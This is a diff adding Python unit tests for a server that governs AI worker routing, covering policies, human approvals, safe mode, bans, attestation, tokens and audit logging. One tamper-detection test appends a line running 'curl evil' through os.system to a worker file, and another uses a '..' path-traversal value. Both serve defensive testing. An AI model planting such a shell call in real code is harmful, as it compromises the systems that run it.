@@ -118,6 +118,7 @@ class ServerCase(unittest.TestCase):
         self.client = Client(self.server.url)
         _, self.admin = self.hall.create_token("test admin", ["admin"])
         _, self.router_token = self.hall.create_token("test router", ["route"])
+        _, self.reader = self.hall.create_token("test reader", ["read"])
 
     def stop(self):
         if self.hall is not None:
@@ -1079,6 +1080,556 @@ class RulesDocumentTest(unittest.TestCase):
             self.assertIn(reason, str(caught.exception))
 
 
+# -- governance ---------------------------------------------------------------------
+
+PROD_WRITES_POLICY = {"version": "2026-11-a", "default": "ALLOW", "rules": [
+    {"id": "prod-writes", "match": {"env": "prod", "capability_id": "cap.db.*"},
+     "outcome": "REQUIRE_HUMAN", "reason": "prod writes need a human"},
+    {"id": "no-secrets", "match": {"data_label": "SECRET"}, "outcome": "DENY",
+     "reason": "secrets stay home"}]}
+DB_WRITER = worker_record("org.acme.db-writer", "wrk.db.writer", ["cap.db.write"])
+
+
+def poll(predicate, timeout=10.0, interval=0.02):
+    """Wait for predicate() to be true, up to a deadline; returns its last value."""
+    deadline = time.monotonic() + timeout
+    while True:
+        value = predicate()
+        if value or time.monotonic() > deadline:
+            return value
+        time.sleep(interval)
+
+
+class PolicyApiTest(ServerCase):
+
+    def test_put_get_delete_policy(self):
+        status, _, view = self.call("GET", "/api/policy", token=self.admin)
+        self.assertEqual((status, view), (200, {"policy": None, "source": None, "version": None}))
+        status, _, view = self.call("PUT", "/api/policy", PROD_WRITES_POLICY, token=self.admin)
+        self.assertEqual((status, view["source"], view["version"]), (200, "api", "2026-11-a"))
+        self.assertEqual(view["policy"], PROD_WRITES_POLICY)
+        self.enroll(DB_WRITER)
+        d = self.route(capability_id="cap.db.write", env="prod")[2]
+        self.assertEqual(d["deny_reason"], "DENY_REQUIRES_HUMAN_APPROVAL")
+        self.assertEqual(d["deny_reason_if_denied"]["message"], "prod writes need a human")
+        self.assertEqual(d["deny_reason_if_denied"]["policy_version"], "2026-11-a")
+        d = self.route(capability_id="cap.db.write", data_label="SECRET")[2]
+        self.assertEqual(d["deny_reason"], "DENY_POLICY_GATE")
+        d = self.route(capability_id="cap.db.write")[2]
+        self.assertIs(d["allowed"], True)
+        gated = [e for e in d["telemetry_envelopes"] if e["event_id"] == "evt.os.policy.gated"]
+        self.assertEqual(gated[0]["policy_version"], "2026-11-a")
+        self.restart()
+        self.assertEqual(self.call("GET", "/api/policy", token=self.admin)[2]["version"],
+                         "2026-11-a")
+        status, _, view = self.call("DELETE", "/api/policy", token=self.admin)
+        self.assertEqual((status, view["policy"]), (200, None))
+        self.assertIs(self.route(capability_id="cap.db.write", env="prod")[2]["allowed"], True)
+
+    def test_invalid_policy_is_refused_and_nothing_changes(self):
+        self.call("PUT", "/api/policy", PROD_WRITES_POLICY, token=self.admin)
+        for bad in ({"version": "x", "default": "PERHAPS"}, {"default": "ALLOW"}, [],
+                    {"version": "x", "default": "ALLOW", "rules": [{"id": "r", "outcome": "DENY",
+                                                                    "match": {"env": "moon"}}]}):
+            status, _, body = self.call("PUT", "/api/policy", bad, token=self.admin)
+            self.assertEqual((status, body["code"]), (400, "INVALID_POLICY"), bad)
+        self.assertEqual(self.call("GET", "/api/policy", token=self.admin)[2]["version"],
+                         "2026-11-a")
+
+    def test_policy_needs_admin(self):
+        self.assertEqual(self.call("GET", "/api/policy")[0], 401)
+        self.assertEqual(self.call("PUT", "/api/policy", PROD_WRITES_POLICY,
+                                   token=self.router_token)[0], 403)
+
+    def test_policy_file_and_api_precedence(self):
+        path = os.path.join(self.tmp.name, "policy.json")
+        with open(path, "w") as handle:
+            json.dump({"version": "file-1", "default": "DENY"}, handle)
+        self.restart(policy_path=path)
+        self.enroll(worker_record())
+        self.assertEqual(self.route()[2]["deny_reason"], "DENY_POLICY_GATE")
+        view = self.call("GET", "/api/policy", token=self.admin)[2]
+        self.assertEqual((view["source"], view["version"]), ("file", "file-1"))
+        self.call("PUT", "/api/policy", {"version": "api-1", "default": "ALLOW"}, token=self.admin)
+        self.assertIs(self.route()[2]["allowed"], True)
+        self.call("DELETE", "/api/policy", token=self.admin)
+        self.assertEqual(self.call("GET", "/api/policy", token=self.admin)[2]["version"], "file-1")
+
+
+class ApprovalTest(ServerCase):
+
+    def setUp(self):
+        ServerCase.setUp(self)
+        self.call("PUT", "/api/policy", PROD_WRITES_POLICY, token=self.admin)
+        self.enroll(DB_WRITER)
+
+    def ask(self, **overrides):
+        body = dict(capability_id="cap.db.write", env="prod", request={"rows": 3})
+        body.update(overrides)
+        return self.route(**body)[2]
+
+    def test_round_trip_allows_exactly_once(self):
+        denied = self.ask()
+        approval_id = denied["deny_reason_if_denied"]["approval_id"]
+        self.assertEqual(self.ask()["deny_reason_if_denied"]["approval_id"], approval_id)
+        status, _, listing = self.call("GET", "/api/approvals?status=pending", token=self.admin)
+        self.assertEqual((status, [a["approval_id"] for a in listing["approvals"]]),
+                         (200, [approval_id]))
+        pending = listing["approvals"][0]
+        self.assertEqual((pending["input_hash"], pending["deny_code"], pending["tenant_id"]),
+                         (denied["artifact_hash"], "DENY_REQUIRES_HUMAN_APPROVAL", "org.acme"))
+        self.assertEqual(self.ask(approval_id=approval_id)["deny_reason"], "DENY_APPROVAL_PENDING")
+        status, _, approved = self.call("POST", "/api/approvals/%s/approve" % approval_id,
+                                        {"reason": "change ticket 42"}, token=self.admin)
+        self.assertEqual((status, approved["status"], approved["decision_note"]),
+                         (200, "approved", "change ticket 42"))
+        allowed = self.ask(approval_id=approval_id, correlation_id="retry-1")
+        self.assertIs(allowed["allowed"], True)
+        self.assertEqual(allowed["worker_id"], "org.acme.db-writer")
+        self.assertEqual(allowed["preconditions_checked"]["human_approval"], approval_id)
+        self.assertEqual(self.ask(approval_id=approval_id)["deny_reason"], "DENY_APPROVAL_USED")
+        used = self.call("GET", "/api/approvals?status=used", token=self.admin)[2]["approvals"]
+        self.assertEqual(used[0]["used_decision_id"], allowed["decision_id"])
+        alerts = [a["code"] for a in self.call("GET", "/alerts")[2]["alerts"]]
+        self.assertIn("APPROVAL_REQUESTED", alerts)
+
+    def test_approval_binds_to_the_input(self):
+        approval_id = self.ask()["deny_reason_if_denied"]["approval_id"]
+        self.call("POST", "/api/approvals/%s/approve" % approval_id, token=self.admin)
+        other = self.ask(request={"rows": 3000}, approval_id=approval_id)
+        self.assertEqual(other["deny_reason"], "DENY_APPROVAL_MISMATCH")
+        self.assertIs(self.ask(approval_id=approval_id)["allowed"], True)
+
+    def test_rejected_unknown_and_dry_run(self):
+        approval_id = self.ask()["deny_reason_if_denied"]["approval_id"]
+        status, _, rejected = self.call("POST", "/api/approvals/%s/reject" % approval_id,
+                                        token=self.admin)
+        self.assertEqual((status, rejected["status"]), (200, "rejected"))
+        self.assertEqual(self.ask(approval_id=approval_id)["deny_reason"],
+                         "DENY_APPROVAL_REJECTED")
+        status, _, body = self.call("POST", "/api/approvals/%s/approve" % approval_id,
+                                    token=self.admin)
+        self.assertEqual((status, body["code"]), (409, "APPROVAL_NOT_PENDING"))
+        self.assertEqual(self.call("POST", "/api/approvals/apr_nope/approve",
+                                   token=self.admin)[0], 404)
+        self.assertEqual(self.ask(approval_id="apr_nope")["deny_reason"],
+                         "DENY_APPROVAL_NOT_FOUND")
+        fresh = self.ask()["deny_reason_if_denied"]["approval_id"]      # a new one opens
+        self.assertNotEqual(fresh, approval_id)
+        self.call("POST", "/api/approvals/%s/approve" % fresh, token=self.admin)
+        self.assertIs(self.ask(approval_id=fresh, dry_run=True)["allowed"], True)
+        self.assertIs(self.ask(approval_id=fresh)["allowed"], True)     # dry run used nothing
+
+    def test_approvals_expire(self):
+        self.restart(approval_ttl=1)
+        approval_id = self.ask()["deny_reason_if_denied"]["approval_id"]
+        self.call("POST", "/api/approvals/%s/approve" % approval_id, token=self.admin)
+        expired = poll(lambda: self.call("GET", "/api/approvals?status=expired",
+                                         token=self.admin)[2]["approvals"])
+        self.assertEqual([a["approval_id"] for a in expired], [approval_id])
+        self.assertEqual(self.ask(approval_id=approval_id)["deny_reason"],
+                         "DENY_APPROVAL_EXPIRED")
+        status, _, body = self.call("POST", "/api/approvals/%s/reject" % approval_id,
+                                    token=self.admin)
+        self.assertEqual((status, body["code"]), (409, "APPROVAL_NOT_PENDING"))
+
+    def test_blast_gate_opens_an_approval_too(self):
+        d = self.route(capability_id="cap.db.write", env="prod", data_label="SECRET",
+                       qos_class="P0")[2]
+        self.assertEqual(d["deny_reason"], "DENY_REQUIRES_HUMAN")
+        self.assertTrue(d["deny_reason_if_denied"]["approval_id"].startswith("apr_"))
+
+    def test_concurrent_uses_admit_one(self):
+        import threading
+        approval_id = self.ask()["deny_reason_if_denied"]["approval_id"]
+        self.call("POST", "/api/approvals/%s/approve" % approval_id, token=self.admin)
+        results = []
+
+        def use():
+            client = Client(self.server.url)
+            try:
+                results.append(client.request("POST", "/api/route", route_body(
+                    capability_id="cap.db.write", env="prod", request={"rows": 3},
+                    approval_id=approval_id), self.router_token)[2]["deny_reason"])
+            finally:
+                client.close()
+        threads = [threading.Thread(target=use) for _ in range(8)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(30)
+        self.assertEqual(sorted(results, key=str), ["DENY_APPROVAL_USED"] * 7 + [None])
+        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions WHERE denied = 0"), [(1,)])
+
+    def test_bad_status_filter_and_scope(self):
+        self.assertEqual(self.call("GET", "/api/approvals?status=maybe", token=self.admin)[0], 400)
+        self.assertEqual(self.call("GET", "/api/approvals", token=self.router_token)[0], 403)
+
+
+class SafeModeTest(ServerCase):
+
+    def test_safe_mode_denies_everything_survives_restart_and_alerts(self):
+        self.enroll(worker_record())
+        status, _, body = self.call("POST", "/api/safe-mode/enter", {}, token=self.admin)
+        self.assertEqual((status, body["error"]), (400, "reason is required to enter safe mode"))
+        status, _, state = self.call("POST", "/api/safe-mode/enter", {"reason": "incident 7"},
+                                     token=self.admin)
+        self.assertEqual((status, state["safe_mode"], state["reason"]), (200, True, "incident 7"))
+        d = self.route()[2]
+        self.assertEqual(d["deny_reason"], "DENY_SAFE_MODE")
+        self.restart()
+        self.assertEqual(self.call("GET", "/api/safe-mode", token=self.reader)[2]
+                         ["safe_mode"], True)
+        self.assertEqual(self.route()[2]["deny_reason"], "DENY_SAFE_MODE")
+        status, _, state = self.call("POST", "/api/safe-mode/exit", token=self.admin)
+        self.assertEqual((status, state["safe_mode"]), (200, False))
+        self.assertIs(self.route()[2]["allowed"], True)
+        codes = [(a["level"], a["code"]) for a in self.call("GET", "/alerts")[2]["alerts"]]
+        self.assertEqual(codes[:2], [("info", "SAFE_MODE_EXITED"),
+                                     ("critical", "SAFE_MODE_ENTERED")])
+
+    def test_safe_mode_needs_admin(self):
+        self.assertEqual(self.call("POST", "/api/safe-mode/enter", {"reason": "x"},
+                                   token=self.router_token)[0], 403)
+        self.assertEqual(self.call("GET", "/api/safe-mode")[0], 401)
+
+
+class BanTest(ServerCase):
+
+    def test_banned_artifact_refused_at_enrollment_with_alert(self):
+        record = worker_record("org.evil.worker")
+        status, _, body = self.call("POST", "/api/bans", {"sha256": record["artifact_hash"],
+                                                          "reason": "malware"}, token=self.admin)
+        self.assertEqual((status, body["sha256"]), (201, record["artifact_hash"]))
+        status, _, body = self.call("POST", "/enroll", record)
+        self.assertEqual((status, body["code"]), (403, "DENY_WORKER_BANNED"))
+        self.assertEqual(self.db_rows("SELECT count(*) FROM enrollments"), [(0,)])
+        alert = self.call("GET", "/alerts")[2]["alerts"][0]
+        self.assertEqual((alert["level"], alert["code"], alert["worker_id"]),
+                         ("critical", "DENY_WORKER_BANNED", "org.evil.worker"))
+        bans = self.call("GET", "/wcp/registry/ban-list", token=self.reader)[2]
+        self.assertEqual([(b["sha256"], b["reason"]) for b in bans["bans"]],
+                         [(record["artifact_hash"], "malware")])
+
+    def test_banned_enrolled_worker_is_skipped_and_unban_restores(self):
+        good = worker_record("w.good", "wrk.good", ["cap.doc.summarize"], risk_tier="medium")
+        bad = worker_record("w.bad", "wrk.bad", ["cap.doc.summarize"])
+        self.enroll(bad)
+        self.enroll(good)
+        self.assertEqual(self.route()[2]["worker_id"], "w.bad")
+        bare_hex = bad["artifact_hash"][7:].upper()
+        self.assertEqual(self.call("POST", "/api/bans", {"sha256": bare_hex, "reason": "cve"},
+                                   token=self.admin)[0], 201)
+        self.assertEqual(self.call("POST", "/api/bans", {"sha256": bare_hex, "reason": "cve"},
+                                   token=self.admin)[0], 200)
+        self.assertEqual(self.route()[2]["worker_id"], "w.good")
+        self.assertEqual(self.call("DELETE", "/api/bans/" + bad["artifact_hash"],
+                                   token=self.admin)[0], 200)
+        self.assertEqual(self.call("DELETE", "/api/bans/" + bad["artifact_hash"],
+                                   token=self.admin)[0], 404)
+        self.assertEqual(self.route()[2]["worker_id"], "w.bad")
+
+    def test_bad_ban_requests(self):
+        for body in ({"sha256": "abc", "reason": "x"}, {"sha256": "sha256:" + "a" * 64},
+                     {"reason": "x"}, []):
+            self.assertEqual(self.call("POST", "/api/bans", body, token=self.admin)[0], 400, body)
+        self.assertEqual(self.call("POST", "/api/bans", {"sha256": "a" * 64, "reason": "x"},
+                                   token=self.router_token)[0], 403)
+
+    def test_health_reports_a_banned_hall_build_without_the_database(self):
+        self.call("POST", "/api/bans", {"sha256": self.hall.hall_hash, "reason": "bad build"},
+                  token=self.admin)
+        store, self.hall.store = self.hall.store, None
+        try:
+            status, _, body = self.call("GET", "/health")
+        finally:
+            self.hall.store = store
+        self.assertEqual((status, body["hall_hash_banned"]), (200, True))
+
+
+class TenantTest(ServerCase):
+
+    def test_signatory_tenants_from_api(self):
+        self.enroll(worker_record())
+        status, _, view = self.call("PUT", "/api/tenants", {"tenants": ["org.acme", "org.b"]},
+                                    token=self.admin)
+        self.assertEqual((status, view), (200, {"tenants": ["org.acme", "org.b"],
+                                                "source": "api"}))
+        self.assertIs(self.route()[2]["allowed"], True)
+        self.assertEqual(self.route(tenant_id="org.evil", capability_id="cap.none")[2]
+                         ["deny_reason"], "DENY_UNKNOWN_TENANT")
+        self.restart()
+        self.assertEqual(self.route(tenant_id="org.evil")[2]["deny_reason"], "DENY_UNKNOWN_TENANT")
+        status, _, view = self.call("PUT", "/api/tenants", {"tenants": None}, token=self.admin)
+        self.assertEqual(view["tenants"], None)
+        self.assertIs(self.route(tenant_id="org.evil")[2]["allowed"], True)
+        for bad in ({"tenants": "org.a"}, {"tenants": [""]}, {}):
+            self.assertEqual(self.call("PUT", "/api/tenants", bad, token=self.admin)[0], 400)
+
+    def test_signatory_tenants_from_configuration(self):
+        self.restart(tenants=["org.acme"])
+        self.enroll(worker_record())
+        self.assertIs(self.route()[2]["allowed"], True)
+        self.assertEqual(self.route(tenant_id="org.other")[2]["deny_reason"],
+                         "DENY_UNKNOWN_TENANT")
+        self.assertEqual(self.call("GET", "/api/tenants", token=self.admin)[2]["source"], "config")
+
+
+class AttestationTest(ServerCase):
+
+    def setUp(self):
+        ServerCase.setUp(self)
+        self.code_dir = os.path.join(self.tmp.name, "workers")
+        os.mkdir(self.code_dir)
+        self.source = os.path.join(self.code_dir, "summarizer.py")
+        with open(self.source, "w") as handle:
+            handle.write("def run(text):\n    return text[:100]\n")
+        self.restart(attest_dirs=[self.code_dir], require_attestation=True)
+
+    def attested(self, worker_id="w.att", source=None):
+        source = source or self.source
+        with open(source, "rb") as handle:
+            code_hash = "sha256:" + hashlib.sha256(handle.read()).hexdigest()
+        return worker_record(worker_id, "wrk.doc.summarizer", ["cap.doc.summarize"],
+                             attestation={"code_hash": code_hash, "source_file": source})
+
+    def test_live_file_must_match(self):
+        record = self.attested()
+        self.enroll(record)
+        d = self.route()[2]
+        self.assertIs(d["allowed"], True)
+        self.assertIs(d["preconditions_checked"]["worker_attestation"], True)
+        with open(self.source, "a") as handle:
+            handle.write("import os; os.system('curl evil')\n")
+        d = self.route()[2]
+        self.assertEqual(d["deny_reason"], "DENY_WORKER_TAMPERED")
+        self.assertNotIn(record["attestation"]["code_hash"][7:], json.dumps(d))
+        alert = self.call("GET", "/alerts")[2]["alerts"][0]
+        self.assertEqual((alert["level"], alert["code"], alert["worker_id"]),
+                         ("critical", "DENY_WORKER_TAMPERED", "w.att"))
+        verify = self.call("GET", "/api/v1/verify/w.att", token=self.reader)[2]
+        self.assertIs(verify["attested"], False)
+
+    def test_missing_or_outside_attestation(self):
+        self.enroll(worker_record("w.none", "wrk.doc.summarizer", ["cap.doc.summarize"]))
+        self.assertEqual(self.route()[2]["deny_reason"], "DENY_WORKER_ATTESTATION_MISSING")
+        outside = os.path.join(self.tmp.name, "outside.py")
+        with open(outside, "w") as handle:
+            handle.write("x = 1\n")
+        self.enroll(self.attested("w.none", source=outside))
+        self.assertEqual(self.route()[2]["deny_reason"], "DENY_WORKER_ATTESTATION_MISSING")
+        sneaky = self.attested("w.none")
+        sneaky["attestation"]["source_file"] = os.path.join(self.code_dir, "..", "outside.py")
+        sneaky["artifact_hash"] = hall.compute_artifact_hash(sneaky)
+        self.enroll(sneaky)
+        self.assertEqual(self.route()[2]["deny_reason"], "DENY_WORKER_ATTESTATION_MISSING")
+
+    def test_attestation_requires_directories(self):
+        with self.assertRaises(hall.ConfigError):
+            hall.Config.load(environ={"HALL_REQUIRE_ATTESTATION": "on"})
+
+
+class EnvelopeTest(unittest.TestCase):
+
+    def test_privilege_envelope_enforced_when_the_rule_requires_it(self):
+        envelope = {"max_data_label": "INTERNAL", "envs": ["dev", "stage"], "egress": False,
+                    "writes": True}
+        registry = registry_of(worker_record(
+            "w.env", "wrk.doc.summarizer", ["cap.doc.summarize"], privilege_envelope=envelope,
+            currently_implements=[hall.CTRL_ENVELOPE]))
+        rules = [rule("r.env", {}, ["wrk.doc.summarizer"], controls=[hall.CTRL_ENVELOPE])]
+        ok = decide({"data_label": "INTERNAL", "request": {"writes": True}}, rules, registry)
+        self.assertIs(ok["allowed"], True)
+        self.assertIs(ok["preconditions_checked"]["privilege_envelope"], True)
+        for body, fragment in (({"data_label": "CONFIDENTIAL"}, "data_label"),
+                               ({"env": "edge"}, "env edge"),
+                               ({"request": {"egress": True}}, "egress"),
+                               ({"env": "staging"}, None)):
+            d = decide(body, rules, registry)
+            if fragment is None:
+                self.assertIs(d["allowed"], True, body)
+                continue
+            self.assertEqual(d["deny_reason"], "DENY_PRIVILEGE_ENVELOPE_VIOLATED", body)
+            self.assertTrue(any(fragment in v for v in d["deny_reason_if_denied"]["violations"]))
+        bare = registry_of(worker_record("w.bare", "wrk.doc.summarizer", ["cap.doc.summarize"],
+                                         currently_implements=[hall.CTRL_ENVELOPE]))
+        self.assertEqual(decide({}, rules, bare)["deny_reason"], "DENY_PRIVILEGE_ENVELOPE_VIOLATED")
+        self.assertIs(decide({}, [rule("r.free", {}, ["wrk.doc.summarizer"])], bare)["allowed"],
+                      True)
+
+    def test_envelope_is_validated_at_enrollment(self):
+        h = hall.Hall(":memory:")
+        try:
+            for envelope in ({"egress": "yes"}, {"max_data_label": "TOP"}, {"colour": 1}, []):
+                with self.assertRaises(hall.HallError):
+                    h.enroll(worker_record(privilege_envelope=envelope))
+        finally:
+            h.close()
+
+
+class AlertTest(ServerCase):
+
+    def test_denial_burst_raises_one_alert_per_subject(self):
+        for _ in range(hall.DENIAL_BURST[0] * 3):
+            self.route(capability_id="cap.nothing")
+        bursts = [a for a in self.call("GET", "/alerts")[2]["alerts"]
+                  if a["code"] == "DENIAL_BURST"]
+        self.assertEqual(len(bursts), 2)            # one for the tenant, one for the capability
+        self.assertEqual(sorted(str(a["capability_id"]) for a in bursts),
+                         ["None", "cap.nothing"])
+
+    def test_failed_login_burst(self):
+        for _ in range(hall.LOGIN_FAILURE_BURST[0] * 2):
+            self.assertEqual(self.route(token="hall_wrong")[0], 401)
+        codes = [a["code"] for a in self.call("GET", "/alerts")[2]["alerts"]]
+        self.assertEqual(codes.count("AUTH_FAILURE_BURST"), 1)
+
+    def test_alert_flood_is_bounded(self):
+        for i in range(hall.ALERTS_PER_CODE * 3):
+            record = worker_record("w.flood.%d" % i)
+            record["risk_tier"] = "forged"
+            self.assertEqual(self.call("POST", "/enroll", record)[0], 400)
+        self.assertEqual(self.db_rows("SELECT count(*) FROM alerts"), [(hall.ALERTS_PER_CODE,)])
+
+    def test_retire_worker(self):
+        self.enroll(worker_record())
+        self.assertEqual(self.call("DELETE", "/workers/org.example.summarizer",
+                                   token=self.router_token)[0], 403)
+        status, _, body = self.call("DELETE", "/workers/org.example.summarizer", token=self.admin)
+        self.assertEqual((status, body), (200, {"retired": True,
+                                                "worker_id": "org.example.summarizer"}))
+        self.assertEqual(self.call("GET", "/workers")[2]["count"], 0)
+        self.assertEqual(self.route()[2]["deny_reason"], "DENY_NO_MATCHING_RULE")
+        alert = self.call("GET", "/alerts")[2]["alerts"][0]
+        self.assertEqual((alert["level"], alert["code"]), ("info", "WORKER_RETIRED"))
+        self.assertEqual(self.call("DELETE", "/workers/org.example.summarizer",
+                                   token=self.admin)[0], 404)
+
+
+class RegistryApiTest(ServerCase):
+
+    def setUp(self):
+        ServerCase.setUp(self)
+        self.enroll(worker_record("org.a.summarizer", namespace="org.a"))
+        _, self.token_a = self.hall.create_token("a", ["route", "read", "write"], tenant="org.a")
+
+    def test_dispatch_allow_and_deny_shapes(self):
+        status, _, body = self.call("POST", "/api/v1/dispatch", {
+            "namespace": "org.a", "capability": "cap.doc.summarize",
+            "worker_id": "org.a.summarizer",
+            "context": {"risk_tier": "low", "correlation_id": "req-456"}}, token=self.token_a)
+        self.assertEqual(status, 200)
+        self.assertEqual(body, {"outcome": "allow", "worker_id": "org.a.summarizer",
+                                "capability": "cap.doc.summarize", "correlation_id": "req-456",
+                                "decision_id": body["decision_id"]})
+        status, _, body = self.call("POST", "/api/v1/dispatch", {
+            "namespace": "org.a", "capability": "llm.text.generate"}, token=self.token_a)
+        self.assertEqual((status, body["outcome"], body["deny_code"]),
+                         (200, "deny", "DENY_NO_MATCHING_RULE"))
+        self.assertIsInstance(body["reason"], str)
+        logged = self.call("GET", "/dispatches")[2]["dispatches"]
+        self.assertEqual([d["tenant_id"] for d in logged], ["org.a", "org.a"])
+
+    def test_dispatch_errors(self):
+        cases = [({"capability": "c"}, self.token_a, 400),
+                 ({"namespace": "org.a", "capability": "c", "context": "x"}, self.token_a, 400),
+                 ({"namespace": "org.a", "capability": "c", "context": {"risk_tier": "wild"}},
+                  self.token_a, 400),
+                 ({"namespace": "org.a", "capability": "c"}, None, 401),
+                 ({"namespace": "org.b", "capability": "c"}, self.token_a, 403),
+                 ({"namespace": "org.a", "capability": "c", "worker_id": "nobody"},
+                  self.token_a, 404)]
+        for body, token, expected in cases:
+            status, _, answer = self.call("POST", "/api/v1/dispatch", body, token=token)
+            self.assertEqual(status, expected, body)
+            self.assertIn("error", answer)
+        self.assertEqual(self.call("POST", "/api/route", route_body(tenant_id="org.b"),
+                                   token=self.token_a)[2]["code"], "FORBIDDEN_NAMESPACE")
+        self.assertEqual(self.call("POST", "/api/route", route_body(tenant_id="org.a.team"),
+                                   token=self.token_a)[0], 200)
+
+    def test_verify(self):
+        for path in ("/api/v1/verify/org.a.summarizer", "/wcp/registry/verify/org.a.summarizer"):
+            status, _, body = self.call("GET", path, token=self.token_a)
+            self.assertEqual(status, 200)
+            self.assertEqual((body["worker_id"], body["namespace"], body["status"],
+                              body["attested"], body["ban_status"]),
+                             ("org.a.summarizer", "org.a", "active", False, "clean"))
+        self.assertEqual(self.call("GET", "/api/v1/verify/nobody", token=self.token_a)[0], 404)
+        self.assertEqual(self.call("GET", "/api/v1/verify/org.a.summarizer")[0], 401)
+        _, token_b = self.hall.create_token("b", ["read"], tenant="org.b")
+        self.assertEqual(self.call("GET", "/api/v1/verify/org.a.summarizer",
+                                   token=token_b)[0], 403)
+
+    def test_hall_enroll_by_package_hash(self):
+        package = hashlib.sha256(b"worker package v1").hexdigest()
+        body = {"namespace": "org.a", "display_name": "My Worker",
+                "capabilities": ["llm.text.generate"], "sha256": package}
+        status, _, answer = self.call("POST", "/api/v1/hall/enroll", body, token=self.token_a)
+        self.assertEqual(status, 201, answer)
+        self.assertEqual((answer["worker_id"], answer["worker_species_id"], answer["sha256"]),
+                         ("org.a.my-worker", "wrk.my-worker", package))
+        self.assertEqual(self.call("POST", "/api/v1/hall/enroll", body, token=self.token_a)[0], 200)
+        verify = self.call("GET", "/api/v1/verify/org.a.my-worker", token=self.token_a)[2]
+        self.assertEqual((verify["attest_sha256"], verify["ban_status"]), (package, "clean"))
+        routed = self.call("POST", "/api/v1/dispatch", {"namespace": "org.a",
+                                                        "capability": "llm.text.generate"},
+                           token=self.token_a)[2]
+        self.assertEqual((routed["outcome"], routed["worker_id"]), ("allow", "org.a.my-worker"))
+        self.call("POST", "/api/bans", {"sha256": package, "reason": "revoked"}, token=self.admin)
+        self.assertEqual(self.call("GET", "/api/v1/verify/org.a.my-worker",
+                                   token=self.token_a)[2]["ban_status"], "banned")
+        self.assertEqual(self.call("POST", "/api/v1/dispatch", {
+            "namespace": "org.a", "capability": "llm.text.generate"},
+            token=self.token_a)[2]["deny_code"], "DENY_NO_AVAILABLE_WORKER")
+        self.assertEqual(self.call("POST", "/api/v1/hall/enroll", body,
+                                   token=self.token_a)[2]["code"], "DENY_WORKER_BANNED")
+        for bad, expected in ((dict(body, namespace="org.b"), 403), (dict(body, sha256="xyz"), 400),
+                              (dict(body, display_name=""), 400), ({}, 400)):
+            self.assertEqual(self.call("POST", "/api/v1/hall/enroll", bad,
+                                       token=self.token_a)[0], expected, bad)
+
+
+class TokenApiTest(ServerCase):
+
+    def test_create_list_revoke(self):
+        status, _, created = self.call("POST", "/api/tokens", {"name": "ci", "scopes": ["route"]},
+                                       token=self.admin)
+        self.assertEqual(status, 201)
+        secret = created["token"]
+        self.assertEqual(self.route(token=secret)[0], 200)
+        listing = self.call("GET", "/api/tokens", token=self.admin)[2]
+        self.assertNotIn(secret, json.dumps(listing))
+        entry = [t for t in listing["tokens"] if t["token_id"] == created["token_id"]][0]
+        self.assertEqual((entry["name"], entry["scopes"], entry["revoked_at"]),
+                         ("ci", ["route"], None))
+        self.assertIsNotNone(entry["last_used_at"])
+        status, _, _ = self.call("DELETE", "/api/tokens/" + created["token_id"], token=self.admin)
+        self.assertEqual(status, 200)
+        self.assertEqual(self.route(token=secret)[0], 401)
+        self.assertEqual(self.call("DELETE", "/api/tokens/" + created["token_id"],
+                                   token=self.admin)[0], 404)
+        for bad in ({"name": "x", "scopes": ["root"]}, {"name": "", "scopes": ["read"]},
+                    {"name": "x", "scopes": []}, {"name": "x", "scopes": "read"}):
+            self.assertEqual(self.call("POST", "/api/tokens", bad, token=self.admin)[0], 400, bad)
+
+    def test_audit_records_who_did_what(self):
+        admin_id = [t["token_id"] for t in self.call("GET", "/api/tokens", token=self.admin)[2]
+                    ["tokens"] if t["name"] == "test admin"][0]
+        self.call("POST", "/api/safe-mode/enter", {"reason": "drill"}, token=self.admin)
+        self.call("POST", "/api/bans", {"sha256": "b" * 64, "reason": "x"}, token=self.admin)
+        entries = self.call("GET", "/api/audit", token=self.admin)[2]["entries"]
+        self.assertEqual([(e["action"], e["token_id"]) for e in entries[:2]],
+                         [("ban.add", admin_id), ("safe_mode.enter", admin_id)])
+        self.assertEqual(entries[1]["detail"], {"reason": "drill"})
+        with self.assertRaises(sqlite3.DatabaseError):
+            conn = sqlite3.connect(self.db)
+            try:
+                conn.execute("DELETE FROM audit")
+            finally:
+                conn.close()
+
+
 # -- storage -------------------------------------------------------------------------
 
 REFERENCE_SCHEMA = """
@@ -1125,7 +1676,7 @@ class StorageTest(ServerCase):
 
     def test_tokens_are_stored_only_as_hashes(self):
         rows = self.db_rows("SELECT token_hash, scopes FROM tokens")
-        self.assertEqual(len(rows), 2)
+        self.assertEqual(len(rows), 3)
         self.assertNotIn(self.admin, str(rows))
         self.assertIn((hashlib.sha256(self.admin.encode()).hexdigest(), "admin"), rows)
 
